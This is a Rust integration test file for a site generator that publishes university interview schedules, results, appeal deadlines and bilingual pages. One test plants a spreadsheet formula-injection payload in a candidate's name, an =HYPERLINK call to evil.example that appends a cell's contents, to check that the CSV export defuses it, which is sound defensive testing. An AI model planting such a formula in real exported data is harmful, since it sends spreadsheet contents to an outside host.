//! Interview sessions end to end (DESIGN §1 interview rules, §3 `data/interviews/`): the
//! schedule before the results date, the results from it on, results.json and results.csv
//! read back, working-day deadlines, Azerbaijani order, errors all at once, timing warnings,
//! and no private column of scores.csv in any output byte.

mod common;

use common::*;
use serde_json::{json, Value};
use std::path::Path;

const SESSION: &str = "data/interviews/2026-05-test";

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn results_json_reads_back_with_ranks_outcomes_and_appeals() {
    let site = fixture("interviews");
    // Both appeals are filed (29 May) and one is decided (3 June) by then.
    build(site.path(), "2026-06-03");
    let dir = site.path().join("public/interviews/2026-05-test");
    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
    assert_eq!(results["session"], "2026-05-test");
    assert_eq!(results["results_published_on"], "2026-05-27");
    // Wednesday 27 May + 3 working days: 28 May is a holiday, Saturday 30 May is worked.
    assert_eq!(results["appeal_deadline"], "2026-06-01");
    let physics = &results["specialties"][0];
    assert_eq!(physics["specialty"], "Fizika");
    assert_eq!(physics["seats"], 2);
    let row = |c: &Value| (c["candidate"].clone(), c["rank"].clone(), c["final_score"].clone(), c["outcome"].clone());
    let rows: Vec<_> = physics["candidates"].as_array().unwrap().iter().map(row).collect();
    assert_eq!(
        rows,
        vec![
            (json!("C-01"), json!(1), json!(44.0), json!("suitable")),
            (json!("C-02"), json!(2), json!(41.5), json!("suitable")),
            (json!("C-04"), json!(3), json!(35.0), json!("not-suitable")),
            (json!("C-03"), Value::Null, Value::Null, json!("re-interview")), // spread 8 > 5 (rule 2.14)
        ]
    );
    assert_eq!(physics["candidates"][2]["appeal"], json!({"filed_on": "2026-05-29", "decided_on": null, "outcome": "pending"}));
    let chemistry = &results["specialties"][1]["candidates"];
    // An annulled appeal: interviewed again by a new commission, and the seat goes to the next.
    assert_eq!(row(&chemistry[0]), (json!("C-06"), json!(1), json!(37.5), json!("suitable")));
    assert_eq!(row(&chemistry[1]), (json!("C-05"), Value::Null, Value::Null, json!("re-interview")));
    assert_eq!(chemistry[1]["appeal"]["outcome"], "annulled");
    assert_eq!(chemistry[1]["name"], "İsmayılova Leyla");

    let csv = read(&dir.join("results.csv"));
    let csv = csv.strip_prefix('\u{feff}').expect("results.csv starts with a UTF-8 BOM");
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("session,specialty,seats,candidate,name,rank,final_score,outcome,appeal_filed_on,appeal_decided_on,appeal_outcome")
    );
    assert_eq!(lines.next(), Some("2026-05-test,Fizika,2,C-01,Zeynalova Aysel,1,44.00,suitable,,,"));
    assert_eq!(csv.lines().count(), 7);

    let html = read(&dir.join("index.html"));
    assert_eq!(attr(&html, "data-results"), Some("published"));
    assert!(html.contains("Uyğundur") && html.contains("Uyğun deyildir") && html.contains("Yenidən müsahibə"));
    assert!(html.contains("(qaydalar, 2.17)") && html.contains("(qaydalar, 2.13–2.14)"), "rules are cited where applied");
    assert_eq!(attr(&html, "data-appeal-deadline"), Some("2026-06-01"));
    assert!(html.contains("data-label=\"Yekun bal\">44,00</td>"), "two decimals, with a decimal comma in Azerbaijani");
    // Member-by-member scores are not published: only averages (language 18 from every member).
    assert!(html.contains("data-label=\"Dil (orta)\">18,00</td>"));
    let index = read(&site.path().join("public/interviews/index.html"));
    assert!(index.contains(r#"href="/interviews/2026-05-test/""#));

    // On the results day no appeal exists yet: C-05 has the chemistry seat.
    build(site.path(), "2026-05-27");
    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
    let chemistry = &results["specialties"][1]["candidates"];
    assert_eq!(row(&chemistry[0]), (json!("C-05"), json!(1), json!(40.0), json!("suitable")));
    assert_eq!(chemistry[0]["appeal"], Value::Null);
    // Filed, not yet decided: pending, and the result stands.
    build(site.path(), "2026-06-01");
    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
    assert_eq!(
        results["specialties"][1]["candidates"][0]["appeal"],
        json!({"filed_on": "2026-05-29", "decided_on": null, "outcome": "pending"})
    );
}

#[test]
fn before_the_results_date_the_page_shows_the_schedule_only() {
    let site = fixture("interviews");
    build(site.path(), "2026-05-26");
    let dir = site.path().join("public/interviews/2026-05-test");
    let html = read(&dir.join("index.html"));
    assert_eq!(attr(&html, "data-results"), Some("pending"));
    assert!(!dir.join("results.json").exists() && !dir.join("results.csv").exists());
    assert!(!html.contains("44,00") && !html.contains("44.00") && !html.contains("Uyğundur"));
    assert!(html.contains("(qaydalar, 2.6, 2.9)"));
    // By time, then by the Azerbaijani alphabet: at 11:00 İsmayılova before Quliyev.
    let order: Vec<&str> = html.match_indices(" data-candidate=\"").map(|(i, _)| &html[i + 17..i + 21]).collect();
    assert_eq!(order, ["C-01", "C-02", "C-03", "C-04", "C-05", "C-06"]);
    // Each row can be linked to, and found with the filter (shown by assets/results.js).
    assert!(html.contains("<tr id=\"C-01\" data-candidate=\"C-01\">") && html.contains("<a class=\"row-link\" href=\"#C-01\">"));
    assert!(html.contains("<div class=\"row-filter\" data-filter hidden") && html.contains("src=\"/assets/results.js\" defer"));
    // The day results are published, the schedule makes way for them.
    build(site.path(), "2026-05-27");
    assert!(dir.join("results.json").exists());
    // Before it is posted (20 May), not even the schedule is public.
    build(site.path(), "2026-05-19");
    assert!(!read(&dir.join("index.html")).contains("data-candidate="));
}

#[test]
fn re_interviewed_candidates_are_listed_in_azerbaijani_order() {
    let site = fixture("interviews");
    // Make every physics candidate's spread too large: all unranked, listed alphabetically.
    let scores = site.path().join(SESSION).join("scores.csv");
    let text: String = read(&scores)
        .lines()
        .map(|l| {
            if l.contains(",Fizika,M5,") {
                l.replace(",M5,18,17,9,", ",M5,10,10,5,").replace(",M5,17,16.5,8,", ",M5,10,10,5,").replace(",M5,14,14,7,", ",M5,5,5,2,")
            } else {
                l.to_owned()
            }
        })
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&scores, text).unwrap();
    build(site.path(), "2026-05-27");
    let results: Value = serde_json::from_str(&read(&site.path().join("public/interviews/2026-05-test/results.json"))).unwrap();
    let names: Vec<&str> =
        results["specialties"][0]["candidates"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    // C (Cəfərli) < Ç (Çələbi) < I (Işıqlı) < Z (Zeynalova)
    assert_eq!(names, ["Cəfərli Nuray", "Çələbi Emre", "Işıqlı Kamal", "Zeynalova Aysel"]);
}

#[test]
fn private_columns_of_scores_and_appeals_never_reach_the_output() {
    let site = fixture("interviews");
    build(site.path(), "2026-05-27");
    for (path, bytes) in tree(&site.path().join("public")) {
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        assert!(!text.contains("private-") && !text.contains("example.invalid"), "{path} leaks a private column");
    }
}

#[test]
fn scoring_errors_are_reported_all_at_once() {
    let site = fixture("interviews");
    let scores = site.path().join(SESSION).join("scores.csv");
    let mut text = read(&scores);
    text = text.replacen("C-01,Zeynalova,Aysel,,Fizika,M1,18,", "C-01,Zeynalova,Aysel,,Fizika,M1,21,", 1);
    text = text.replacen("C-01,Zeynalova,Aysel,,Fizika,M2,18,17,9", "C-01,Zeynalova,Aysel,,Fizika,M2,18,17.25,9", 1);
    text = text.replacen("C-02,Çələbi,Emre,,Fizika,M2,", "C-02,Çələbi,Emre,,Fizika,M1,", 1);
    text = text.replacen("C-04,Işıqlı,Kamal,,Fizika,M5,", "C-04,Işıqlı,Kamal,,Kimya,M5,", 1);
    text.push_str("C-09,Yeni,Ad,,Biologiya,M1,10,10,5,x,y,z,w\n");
    std::fs::write(&scores, text).unwrap();
    let appeals = site.path().join(SESSION).join("appeals.csv");
    let mut text = read(&appeals);
    text.push_str("C-99,2026-05-29,,pending,\n");
    std::fs::write(&appeals, text).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-05-27"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    for expected in [
        "scores.csv:2:33: language \"21\" is not a score from 0 to 20 in whole or half points",
        "scores.csv:3:36: knowledge \"17.25\" is not a score from 0 to 20 in whole or half points",
        "scores.csv:8:26: member M1 scores candidate C-02 twice",
        "candidate C-02 has scores from 4 members, not 5",
        "scores.csv:21:20: candidate C-04 is in two specialties: \"Fizika\" and \"Kimya\"",
        "scores.csv:32:15: specialty \"Biologiya\" has no vacancies in session.toml",
        "appeals.csv:4:1: appeal for candidate \"C-99\", who has no scores in scores.csv",
        "error: 8 errors",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
    }
}

#[test]
fn a_tie_across_the_last_seat_needs_the_commissions_recorded_order() {
    let site = fixture("interviews");
    let scores = site.path().join(SESSION).join("scores.csv");
    // C-02 scores exactly as C-01 now: both 44.00 for the two seats… and C-04 too: three for two.
    let text = read(&scores).replace(",17,16.5,8,", ",18,17,9,").replace(",14,14,7,", ",18,17,9,");
    std::fs::write(&scores, text).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-05-27"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("candidates C-01, C-02, C-04 of \"Fizika\" tie at 44.00 across the last seat"), "{err}");
    assert!(
        err.contains("[tie_breaks.\"Fizika\"]") && err.contains("order = [\"C-01\", \"C-02\", \"C-04\"]") && err.contains("decided_on = "),
        "{err}"
    );
    let toml = site.path().join(SESSION).join("session.toml");
    let mut text = read(&toml);
    text.push_str("\n[tie_breaks]\n\"Fizika\" = [\"C-04\", \"C-01\", \"C-02\"]\n");
    std::fs::write(&toml, text).unwrap();
    build(site.path(), "2026-05-27");
    let results: Value = serde_json::from_str(&read(&site.path().join("public/interviews/2026-05-test/results.json"))).unwrap();
    let outcomes: Vec<(&str, &str)> = results["specialties"][0]["candidates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["candidate"].as_str().unwrap(), c["outcome"].as_str().unwrap()))
        .collect();
    assert_eq!(outcomes[..3], [("C-04", "suitable"), ("C-01", "suitable"), ("C-02", "not-suitable")]);
}

#[test]
fn missed_timings_are_warnings_not_errors() {
    let site = fixture("interviews");
    let toml = site.path().join(SESSION).join("session.toml");
    let text = read(&toml)
        .replace("schedule_published_on = \"20.05.2026\"", "schedule_published_on = 2026-05-23")
        .replace("results_published_on = 2026-05-27", "results_published_on = 2026-06-03");
    std::fs::write(&toml, text).unwrap();
    let appeals = site.path().join(SESSION).join("appeals.csv");
    std::fs::write(&appeals, "candidate,filed_on,decided_on,outcome\nC-04,2026-06-10,2026-06-22,upheld\n").unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-06-30"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    for expected in [
        "fewer than 3 days before the interview on 2026-05-25 (rule 2.6)",
        "results published on 2026-06-03, later than 3 working days after the interview (2026-05-29; rule 2.11)",
        "the appeal of C-04 was filed on 2026-06-10, after the deadline 2026-06-08 (rule 2.17)",
        "the appeal of C-04 was decided on 2026-06-22, later than 7 working days after filing (2026-06-19; annex 2 §2.6)",
        "4 warnings",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
    }
}

#[test]
fn an_unknown_key_in_session_toml_names_the_nearest() {
    let site = fixture("interviews");
    let toml = site.path().join(SESSION).join("session.toml");
    let text = read(&toml).replace("place =", "plase =");
    std::fs::write(&toml, text).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-05-27"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("data/interviews/2026-05-test/session.toml:4:1: unknown key `plase`") && err.contains("did you mean `place`?"),
        "{err}"
    );
}

/// The element holding `data-candidate="<id>"`'s row, up to the row's end.
fn row<'a>(html: &'a str, id: &str) -> &'a str {
    let start = html.find(&format!("<tr id=\"{id}\" data-candidate=\"{id}\"")).unwrap_or_else(|| panic!("no row for {id}"));
    &html[start..start + html[start..].find("</tr>").unwrap()]
}

#[test]
fn an_appeal_pending_past_its_limit_is_a_warning_and_marked_overdue() {
    let site = fixture("interviews");
    // C-04's appeal, filed Friday 29 May and still pending: 7 working days (Saturday 30 May is
    // worked) end on Monday 8 June; overdue from 9 June (annex 2 §2.6).
    let out = certsite(site.path(), &["check", "--build-date", "2026-06-08"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stderr(&out).contains("still pending"), "{}", stderr(&out));
    build(site.path(), "2026-06-08");
    let page = site.path().join("public/interviews/2026-05-test/index.html");
    let html = read(&page);
    assert_eq!(attr(row(&html, "C-04"), "data-appeal"), Some("pending"));
    assert!(row(&html, "C-04").contains(r#"<time datetime="2026-06-08">08.06.2026</time>"#), "{}", row(&html, "C-04"));
    assert_eq!(attr(row(&html, "C-05"), "data-appeal"), Some("annulled"));

    let out = certsite(site.path(), &["check", "--build-date", "2026-06-09"]);
    assert_eq!(out.status.code(), Some(0), "a warning, not an error: {}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("the appeal of C-04 (Işıqlı Kamal) is overdue: still pending on 2026-06-09, its limit was 2026-06-08 (annex 2 §2.6)"),
        "{err}"
    );
    assert!(err.contains("data/interviews/2026-05-test/appeals.csv:3:1: the appeal of C-04"), "{err}");
    assert!(err.contains("decided within 7 working days of filing (filed on 2026-05-29)"), "{err}");
    build(site.path(), "2026-06-09");
    let html = read(&page);
    let c04 = row(&html, "C-04");
    assert_eq!(attr(c04, "data-appeal"), Some("overdue"), "{c04}");
    let marked = &c04[c04.find("data-appeal=").unwrap()..];
    assert!(marked.contains(r#"<time datetime="2026-06-08">"#) && marked.contains("(əlavə 2, §2.6)"), "{marked}");
    assert_eq!(attr(row(&html, "C-05"), "data-appeal"), Some("annulled"));
    // results.json keeps the recorded outcome.
    let results: Value = serde_json::from_str(&read(&page.with_file_name("results.json"))).unwrap();
    assert_eq!(results["specialties"][0]["candidates"][2]["appeal"]["outcome"], "pending");
}

#[test]
fn before_the_results_the_page_gives_the_day_they_are_due() {
    let site = fixture("interviews");
    let toml = site.path().join("data/site.toml");
    std::fs::write(&toml, read(&toml).replace("title = ", "languages = [\"az\", \"en\"]\ntitle = ")).unwrap();
    build(site.path(), "2026-05-26");
    // Monday 25 May + 3 working days, 28 May a holiday: Friday 29 May (rule 2.11).
    let az = read(&site.path().join("public/interviews/2026-05-test/index.html"));
    assert!(az.contains(r#"datetime="2026-05-29">29.05.2026</time> <span class="cite">(qaydalar, 2.11)</span>"#), "{az}");
    let en = read(&site.path().join("public/en/interviews/2026-05-test/index.html"));
    assert!(en.contains(r#"datetime="2026-05-29">29 May 2026</time> <span class="cite">(rules, 2.11)</span>"#), "{en}");
    assert!(en.contains(r#"datetime="2026-05-25">25 May 2026</time>"#), "dates on English pages are unambiguous");
}

#[test]
fn interview_pages_are_the_universitys() {
    let site = fixture("interviews");
    let toml = site.path().join("data/site.toml");
    let settings = read(&toml).replace("title = ", "languages = [\"az\", \"en\"]\ntitle = ")
        + "institution = \"Kür Universiteti\"\ninstitution_en = \"Kur University\"\n";
    std::fs::write(&toml, &settings).unwrap();
    build(site.path(), "2026-06-03");
    let public = site.path().join("public");
    let session = |lang: &str| read(&public.join(format!("{lang}interviews/2026-05-test/index.html")));
    // The session's own institution wins; with no English name of its own, it is marked Azerbaijani.
    assert!(session("").contains(r#"<a class="site-title" href="/interviews/">Sınaq Universiteti</a>"#), "{}", session(""));
    assert!(
        session("en/").contains(r#"<a class="site-title" href="/en/interviews/" lang="az">Sınaq Universiteti</a>"#),
        "{}",
        session("en/")
    );
    // The certification body's words about certificate holders' data are not on them, and are elsewhere.
    for (page, words) in [("", "Sertifikat sahiblərinin"), ("en/", "personal data is not published")] {
        assert!(!session(page).contains(words), "{page}: {words}");
        assert!(!read(&public.join(format!("{page}interviews/index.html"))).contains(words), "{page}: {words}");
        assert!(read(&public.join(format!("{page}verify/index.html"))).contains(words), "{page}: {words}");
    }
    assert!(!session("").contains(r#"class="site-title" href="/">"#));
    // Without its own, the session takes site.toml's, in each language.
    let session_toml = site.path().join(SESSION).join("session.toml");
    let own = read(&session_toml);
    std::fs::write(&session_toml, own.replace("institution = \"Sınaq Universiteti\"\n", "")).unwrap();
    build(site.path(), "2026-06-03");
    assert!(session("").contains(r#"<a class="site-title" href="/interviews/">Kür Universiteti</a>"#));
    assert!(session("en/").contains(r#"<a class="site-title" href="/en/interviews/">Kur University</a>"#));
    assert!(read(&public.join("en/interviews/index.html")).contains(r#"<a class="site-title" href="/en/interviews/">Kur University</a>"#));

    // Empty is an error at its line and column; so is none at all.
    std::fs::write(&session_toml, own.replace("institution = \"Sınaq Universiteti\"", "institution = \" \"")).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("data/interviews/2026-05-test/session.toml:2:1: institution is empty"), "{}", stderr(&out));
    std::fs::write(&toml, settings.replace("institution = \"Kür Universiteti\"", "institution = \"\"")).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("data/site.toml:11:1: [interviews] institution is empty"), "{}", stderr(&out));
    std::fs::write(&toml, settings.replace("institution = \"Kür Universiteti\"\n", "")).unwrap();
    std::fs::write(&session_toml, own.replace("institution = \"Sınaq Universiteti\"\n", "")).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("session.toml: no institution for this session"), "{}", stderr(&out));
}

#[test]
fn english_interview_pages_have_no_azerbaijani_interface_word() {
    let site = fixture("interviews");
    let toml = site.path().join("data/site.toml");
    // The site's title is data (the fixture's is an Azerbaijani word of the table): another.
    let settings = read(&toml).replace("title = \"Müsahibələr\"", "languages = [\"az\", \"en\"]\ntitle = \"Sınaq\"");
    std::fs::write(&toml, settings).unwrap();
    for date in ["2026-05-26", "2026-06-09"] {
        build(site.path(), date);
        for page in ["en/interviews/2026-05-test/index.html", "en/interviews/index.html"] {
            let html = read(&site.path().join("public").join(page));
            // Text marked lang="az" (names of the protocol's outcomes, the university) is allowed.
            let mut bare = String::new();
            let mut rest = html.as_str();
            while let Some(i) = rest.find(" lang=\"az\"") {
                bare.push_str(&rest[..i]);
                let close = rest[i..].find('<').map_or(rest.len(), |j| i + j);
                rest = &rest[close..];
            }
            bare.push_str(rest);
            for (key, az, en) in certsite::render::i18n::STRINGS {
                if az != en && az.chars().count() > 3 {
                    assert!(!bare.contains(az), "{date} {page}: {key} in Azerbaijani: {az}");
                }
            }
            for word in ["Uyğundur", "Uyğun deyildir", "Yenidən müsahibə", "baxılır"] {
                assert!(!bare.contains(word), "{date} {page}: {word}");
            }
        }
    }
}

#[test]
fn results_csv_opens_in_a_spreadsheet_without_running_a_formula() {
    let site = fixture("interviews");
    let scores = site.path().join(SESSION).join("scores.csv");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
    let quoted = format!("\"{}\"", evil.replace('"', "\"\""));
    std::fs::write(&scores, read(&scores).replace("C-01,Zeynalova,", &format!("C-01,{quoted},"))).unwrap();
    build(site.path(), "2026-05-27");
    let dir = site.path().join("public/interviews/2026-05-test");
    let bytes = std::fs::read(dir.join("results.csv")).unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "a UTF-8 BOM");
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&bytes[3..]);
    let mut names = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
        names.push(record[4].to_owned());
    }
    assert_eq!(names[0], format!("'{evil} Aysel"));
    // results.json keeps the exact text.
    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
    assert_eq!(results["specialties"][0]["candidates"][0]["name"], format!("{evil} Aysel"));
}

/// The fixture with both languages and an English name for each part of the session.
fn bilingual(site: &Path) {
    let toml = site.join("data/site.toml");
    std::fs::write(&toml, read(&toml).replace("title = \"Müsahibələr\"", "languages = [\"az\", \"en\"]\ntitle = \"Sınaq\"")).unwrap();
}

/// A tie at 41.50 between C-02 and C-04 across the last physics seat (C-04 scores as C-02).
fn tie_at_the_last_seat(site: &Path) {
    let scores = site.join(SESSION).join("scores.csv");
    std::fs::write(&scores, read(&scores).replace(",14,14,7,", ",17,16.5,8,")).unwrap();
}

#[test]
fn a_tie_break_with_its_date_and_protocol_is_explained_at_the_tied_rows() {
    let site = fixture("interviews");
    bilingual(site.path());
    tie_at_the_last_seat(site.path());
    let toml = site.path().join(SESSION).join("session.toml");
    let own = read(&toml);
    std::fs::write(
        &toml,
        format!("{own}\n[tie_breaks.Fizika]\norder = [\"C-04\", \"C-02\"]\ndecided_on = 2026-05-27\nprotocol = \"No 7\"\n"),
    )
    .unwrap();
    build(site.path(), "2026-05-27");
    let dir = site.path().join("public/interviews/2026-05-test");
    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
    assert_eq!(results["specialties"][0]["tie_break"], json!({"order": ["C-04", "C-02"], "decided_on": "2026-05-27", "protocol": "No 7"}));
    assert_eq!(results["specialties"][1]["tie_break"], Value::Null);
    let html = read(&dir.join("index.html"));
    for id in ["C-02", "C-04"] {
        assert!(row(&html, id).contains("data-tie=\"ordered\""), "{id}");
        assert!(
            row(&html, id).contains(
                "Bal bərabərdir: bu namizədlərin sırasını komissiya müəyyən edib (qərarın tarixi: <time datetime=\"2026-05-27\">27.05.2026</time>; protokol <span lang=\"az\">No 7</span>)"
            ),
            "{}",
            row(&html, id)
        );
    }
    assert!(!row(&html, "C-01").contains("data-tie-note"), "an untied row says nothing of ties");
    let en = read(&site.path().join("public/en/interviews/2026-05-test/index.html"));
    assert!(row(&en, "C-04").contains(
        "Equal scores: the commission decided the order of these candidates (decided on: <time datetime=\"2026-05-27\">27 May 2026</time>"
    ));

    // The short form still loads: the page says the commission decided, without a date.
    std::fs::write(&toml, format!("{own}\n[tie_breaks]\nFizika = [\"C-04\", \"C-02\"]\n")).unwrap();
    build(site.path(), "2026-05-27");
    let html = read(&dir.join("index.html"));
    assert!(row(&html, "C-02").contains("komissiya müəyyən edib. <span class=\"cite\">(qaydalar, 2.3)</span>"), "{}", row(&html, "C-02"));
    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
    assert_eq!(results["specialties"][0]["tie_break"], json!({"order": ["C-04", "C-02"], "decided_on": null, "protocol": null}));

    // Keys are strict, dates checked, as everywhere.
    std::fs::write(&toml, format!("{own}\n[tie_breaks.Fizika]\norder = [\"C-04\", \"C-02\"]\nprotocl = \"No 7\"\n")).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-05-27"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("session.toml:18:1: unknown key `protocl`") && err.contains("did you mean `protocol`?"), "{err}");
    std::fs::write(&toml, format!("{own}\n[tie_breaks.Fizika]\norder = [\"C-04\", \"C-02\"]\ndecided_on = \"31.02.2026\"\n")).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-05-27"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("session.toml:18:1: decided_on:"), "{}", stderr(&out));
}

#[test]
fn scores_are_written_as_each_language_writes_them_and_the_open_data_keeps_a_point() {
    let site = fixture("interviews");
    bilingual(site.path());
    build(site.path(), "2026-06-03");
    let public = site.path().join("public");
    let az = read(&public.join("interviews/2026-05-test/index.html"));
    let en = read(&public.join("en/interviews/2026-05-test/index.html"));
    assert!(row(&az, "C-02").contains(">41,50</td>") && row(&az, "C-02").contains(">16,50</td>"), "{}", row(&az, "C-02"));
    assert!(!row(&az, "C-02").contains("41.50"));
    assert!(row(&en, "C-02").contains(">41.50</td>") && row(&en, "C-02").contains(">16.50</td>"));
    assert!(!row(&en, "C-02").contains("41,50"));
    let csv = read(&public.join("interviews/2026-05-test/results.csv"));
    assert!(csv.contains(",C-02,Çələbi Emre,2,41.50,suitable,"), "{csv}");
    let results: Value = serde_json::from_str(&read(&public.join("interviews/2026-05-test/results.json"))).unwrap();
    assert_eq!(results["specialties"][0]["candidates"][1]["final_score"], json!(41.5));
}

#[test]
fn venue_rank_and_vacancies_have_words_of_their_own() {
    let site = fixture("interviews");
    bilingual(site.path());
    build(site.path(), "2026-06-03");
    let public = site.path().join("public");
    let az = read(&public.join("interviews/2026-05-test/index.html"));
    assert!(
        az.contains("<dt>Keçirilmə yeri</dt>")
            && az.contains("<th scope=\"col\">Sıra</th>")
            && az.contains("· Vakant yerlərin sayı: 2</h3>")
    );
    assert!(!az.contains(">Yer<") && !az.contains("Yer:"), "\"Yer\" alone no longer stands for three things");
    let en = read(&public.join("en/interviews/2026-05-test/index.html"));
    assert!(en.contains("<dt>Venue</dt>") && en.contains("<th scope=\"col\">Rank</th>") && en.contains("· Vacancies: 2</h3>"));
}

#[test]
fn english_pages_use_the_sessions_english_title_venue_and_specialties() {
    let site = fixture("interviews");
    bilingual(site.path());
    let toml = site.path().join(SESSION).join("session.toml");
    let own = read(&toml);
    let translated = own
        .replace("place = ", "title_en = \"Trial session\"\nplace_en = \"Main building, 101\"\nplace = ")
        .replace("specialty = \"Fizika\"", "specialty = \"Fizika\"\nspecialty_en = \"Physics\"");
    std::fs::write(&toml, &translated).unwrap();
    build(site.path(), "2026-05-26");
    let en_page = |page: &str| read(&site.path().join("public/en/interviews").join(page));
    // Before the results: the schedule's specialties too.
    let schedule = en_page("2026-05-test/index.html");
    assert!(schedule.contains("<h1>Trial session</h1>") && schedule.contains("<dd>Main building, 101</dd>"), "{schedule}");
    assert!(schedule.contains("<td>Physics</td>") && schedule.contains("<td lang=\"az\">Kimya</td>"));
    build(site.path(), "2026-06-03");
    let results = en_page("2026-05-test/index.html");
    assert!(
        results.contains("<h3>Physics · Vacancies: 2</h3>") && results.contains("<h3><span lang=\"az\">Kimya</span> · Vacancies: 1</h3>")
    );
    assert!(en_page("index.html").contains(">Trial session</a>"));
    let az = read(&site.path().join("public/interviews/2026-05-test/index.html"));
    assert!(az.contains("<h1>Sınaq sessiyası</h1>") && az.contains("<h3>Fizika · ") && !az.contains("Physics"));
    // The open data keeps the Azerbaijani names.
    let data: Value = serde_json::from_str(&read(&site.path().join("public/interviews/2026-05-test/results.json"))).unwrap();
    assert_eq!((data["title"].as_str(), data["specialties"][0]["specialty"].as_str()), (Some("Sınaq sessiyası"), Some("Fizika")));
    // Without a translation, the Azerbaijani text marked as such.
    std::fs::write(&toml, &own).unwrap();
    build(site.path(), "2026-06-03");
    let results = en_page("2026-05-test/index.html");
    assert!(results.contains("<h1 lang=\"az\">Sınaq sessiyası</h1>") && results.contains("<dd lang=\"az\">Əsas bina, 101</dd>"));
}

#[test]
fn the_results_say_how_to_appeal_and_to_whom() {
    let site = fixture("interviews");
    bilingual(site.path());
    let toml = site.path().join("data/site.toml");
    let settings = read(&toml);
    std::fs::write(
        &toml,
        format!("{settings}address = \"Bakı, Elm küçəsi 5\"\naddress_en = \"5 Elm Street, Baku\"\nphone = \"+994 12 555 00 00\"\n"),
    )
    .unwrap();
    build(site.path(), "2026-06-03");
    let page = |lang: &str| read(&site.path().join(format!("public/{lang}interviews/2026-05-test/index.html")));
    let az = page("");
    let how = &az[az.find("data-appeal-how").expect("a section on how to appeal")..];
    for words in [
        "Apellyasiyanı yazılı şəkildə universitetə təqdim edin:",
        "<dd>Sınaq Universiteti</dd>",
        "<dd>Bakı, Elm küçəsi 5</dd>",
        "<a href=\"mailto:qebul@uni.example.org\">qebul@uni.example.org</a>",
        "<a href=\"tel:+994125550000\">+994 12 555 00 00</a>",
        "Son tarix: <time datetime=\"2026-06-01\">01.06.2026</time>",
        "(qaydalar, 2.17; əlavə 2, §2.4)",
        "(əlavə 2, §2.6, §3.2–3.3)",
    ] {
        assert!(how.contains(words), "{words} in {how}");
    }
    let en = page("en/");
    assert!(en.contains("<dd>5 Elm Street, Baku</dd>") && en.contains("Last day: <time datetime=\"2026-06-01\">1 June 2026</time>"));

    // No contact: the page sends candidates to the admissions committee, and check warns.
    std::fs::write(&toml, settings.replace("email = \"qebul@uni.example.org\"\n", "")).unwrap();
    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("the results pages cannot say where to file an appeal: [interviews] has no email, phone or address"),
        "{}",
        stderr(&out)
    );
    build(site.path(), "2026-06-03");
    let az = page("");
    assert!(az.contains("<p data-no-contact>Universitetin əlaqə məlumatları bu saytda göstərilməyib: apellyasiyanın harada qəbul edildiyini universitetin qəbul komissiyasından soruşun.</p>"));
    assert!(!az.contains("data-contact"));
}
